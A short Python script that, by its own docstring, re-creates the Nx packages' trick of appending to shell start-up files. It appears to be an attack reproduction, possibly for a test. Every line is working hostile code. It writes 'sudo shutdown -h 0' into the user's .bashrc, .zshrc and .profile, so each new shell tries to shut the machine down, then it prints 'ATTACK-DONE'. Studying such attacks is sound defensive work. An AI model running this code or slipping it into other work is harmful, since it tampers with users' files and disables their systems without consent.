"""Appends to shell start-up files, as the Nx packages did."""
import os

for name in (".bashrc", ".zshrc", ".profile"):
    try:
        with open(os.path.join(os.path.expanduser("~"), name), "a") as file:
            file.write("sudo shutdown -h 0\n")
        print(name, "changed")
    except OSError as error:
        print(name, "errno", error.errno)
print("ATTACK-DONE")
